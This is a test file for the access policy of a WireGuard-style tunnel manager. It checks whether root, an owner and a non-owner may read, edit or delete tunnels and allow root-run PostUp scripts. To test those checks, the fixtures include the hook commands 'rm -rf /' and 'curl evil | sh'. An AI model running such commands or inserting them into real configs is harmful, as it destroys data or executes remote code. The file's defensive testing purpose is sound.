// The access table, request by request, for an administrator and for members who do and do not own the tunnel.
import { describe, expect, it } from 'vitest';
import { encodeKey, parseConfig } from '../../shared/config/index.js';
import { HIDDEN_PRIVATE_KEY_LINE } from '../../shared/config/private-key-text.js';
import type { ControlMethod, ControlParams } from '../../shared/ipc/control.js';
import { ACCESS, type Subject, enforce, mayChange } from './access-policy.js';
import type { Caller } from './authorization.js';

const root: Caller = { uid: 0, gid: 0, pid: 1, username: 'root', groups: [0], admin: true };
const alice: Caller = { uid: 1000, gid: 1000, pid: 2, username: 'alice', groups: [1000, 900], admin: false };
const bob: Caller = { uid: 1001, gid: 1001, pid: 3, username: 'bob', groups: [1001, 900], admin: false };

const text = (postUp = 'echo up') =>
  `[Interface]\nPrivateKey = ${encodeKey(new Uint8Array(32).fill(1))}\nAddress = 10.0.0.2/32\nPostUp = ${postUp}\n\n` +
  `[Peer]\nPublicKey = ${encodeKey(new Uint8Array(32).fill(2))}\nAllowedIPs = 10.0.0.0/24\n`;

function subject(allowScripts: boolean, owner = alice.uid): Subject {
  const parsed = parseConfig(text());
  if (!parsed.ok) throw new Error('fixture');
  return { name: 'home', owner, ownerName: owner === 0 ? 'root' : 'alice', allowScripts, config: parsed.config };
}

const refusal = <M extends ControlMethod>(
  caller: Caller,
  method: M,
  params: ControlParams[M],
  about?: Subject,
): string | null => {
  try {
    enforce(caller, method, params, about);
    return null;
  } catch (error) {
    expect(error).toMatchObject({ code: 'not-permitted' });
    return (error as Error).message;
  }
};

describe('the access table', () => {
  it('has a row for every method of the protocol', () => {
    expect(Object.keys(ACCESS).sort()).toEqual(
      [
        'create',
        'delete',
        'down',
        'get',
        'import',
        'list',
        'logs',
        'network',
        'openPortalHole',
        'closePortalHole',
        'rename',
        'resume',
        'setOptions',
        'show',
        'subscribe',
        'suspend',
        'up',
        'update',
        'version',
      ].sort(),
    );
  });

  it('lets an administrator do everything, scripts included', () => {
    expect(refusal(root, 'setOptions', { name: 'home', options: { allowScripts: true } }, subject(false))).toBeNull();
    expect(refusal(root, 'up', { name: 'wg0', config: text(), allowScripts: true })).toBeNull();
    expect(refusal(root, 'update', { name: 'home', text: text('rm -rf /') }, subject(true))).toBeNull();
    expect(refusal(root, 'get', { name: 'home', includePrivateKey: true }, subject(false, 1000))).toBeNull();
  });

  it('lets any member see and switch every tunnel, whoever owns it', () => {
    const owned = subject(false, 0);
    for (const [method, params] of [
      ['list', {}],
      ['show', { name: 'home' }],
      ['logs', {}],
      ['up', { name: 'home' }],
      ['down', { name: 'home' }],
      ['suspend', {}],
      ['resume', {}],
      ['version', {}],
      // The network, and the sign-in hole in the kill switch, as switching a tunnel off is anyone's too.
      ['network', {}],
      ['openPortalHole', { seconds: 300 }],
      ['closePortalHole', {}],
    ] as const) {
      expect(refusal(bob, method, params as never, owned), method).toBeNull();
    }
  });

  it("refuses a member another owner's tunnel: its text, key, settings, name and existence", () => {
    const alices = subject(false);
    for (const [method, params, verb] of [
      ['get', { name: 'home' }, 'read'],
      ['get', { name: 'home', includePrivateKey: true }, 'read'],
      ['update', { name: 'home', text: text() }, 'edit'],
      ['setOptions', { name: 'home', options: { autostart: true } }, 'change the settings of'],
      [
        'setOptions',
        { name: 'home', options: { onDemand: { ethernet: true, wifi: 'except', ssids: ['Home'] } } },
        'change the settings of',
      ],
      ['rename', { name: 'home', newName: 'mine' }, 'rename'],
      ['delete', { name: 'home' }, 'delete'],
    ] as const) {
      expect(refusal(bob, method, params as never, alices)).toBe(
        `home belongs to alice; only alice or an administrator may ${verb} it`,
      );
      expect(refusal(alice, method, params as never, alices), `${method} by its owner`).toBeNull();
    }
    // A tunnel stored before owners were recorded is root's.
    expect(refusal(alice, 'get', { name: 'home' }, subject(false, 0))).toBe(
      'home belongs to root; only root or an administrator may read it',
    );
  });

  it('never lets a member allow scripts, nor run a file with them', () => {
    expect(refusal(alice, 'setOptions', { name: 'home', options: { allowScripts: true } }, subject(false))).toMatch(
      /^PreUp\/PostUp\/PreDown\/PostDown run as root, so only an administrator may allow them \(`sudo warren set home --allow-scripts on`/,
    );
    expect(refusal(alice, 'up', { name: 'wg0', config: text(), allowScripts: true })).toMatch(
      /^running a file's tunnel with its scripts/,
    );
    // Without scripts a member may run a file's tunnel (as importing it and switching it on would), and may
    // switch an owned tunnel's scripts off.
    expect(refusal(alice, 'up', { name: 'wg0', config: text() })).toBeNull();
    expect(refusal(alice, 'setOptions', { name: 'home', options: { allowScripts: false } }, subject(true))).toBeNull();
  });

  it('lets the owner edit a tunnel whose scripts an administrator allowed, but not its scripts', () => {
    const allowed = subject(true);
    const message =
      'an administrator allowed the scripts of home as they are; changing them needs an administrator too, or switch its scripts off first';
    expect(refusal(alice, 'update', { name: 'home', text: text('curl evil | sh') }, allowed)).toBe(message);
    // The hidden key's placeholder, as the app sends it, changes nothing about that.
    const hidden = text('curl evil | sh').replace(/^PrivateKey = .*$/m, HIDDEN_PRIVATE_KEY_LINE);
    expect(refusal(alice, 'update', { name: 'home', text: hidden }, allowed)).toBe(message);
    // Everything else may change.
    expect(
      refusal(alice, 'update', { name: 'home', text: text().replace('10.0.0.2/32', '10.0.0.3/32') }, allowed),
    ).toBeNull();
    // With scripts off, the hooks are only text.
    expect(refusal(alice, 'update', { name: 'home', text: text('curl evil | sh') }, subject(false))).toBeNull();
  });

  it('says who may change a tunnel', () => {
    expect(mayChange(alice, { owner: 1000 })).toBe(true);
    expect(mayChange(bob, { owner: 1000 })).toBe(false);
    expect(mayChange(root, { owner: 1000 })).toBe(true);
  });
});
